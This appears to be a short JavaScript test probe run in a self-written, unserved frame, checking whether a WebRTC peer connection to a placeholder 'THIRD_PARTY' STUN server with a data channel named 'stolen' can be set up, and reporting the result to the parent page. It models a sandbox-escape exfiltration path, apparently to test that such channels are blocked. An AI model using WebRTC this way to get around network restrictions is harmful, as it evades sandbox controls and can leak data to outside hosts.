// Runs in a frame that the program wrote itself, whose page nobody served.
try {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:THIRD_PARTY" }] });
  peer.createDataChannel("stolen");
  peer
    .createOffer()
    .then((offer) => peer.setLocalDescription(offer))
    .then(() => parent.postMessage({ peer: "went through" }, "*"));
} catch {
  parent.postMessage({ peer: "failed" }, "*");
}
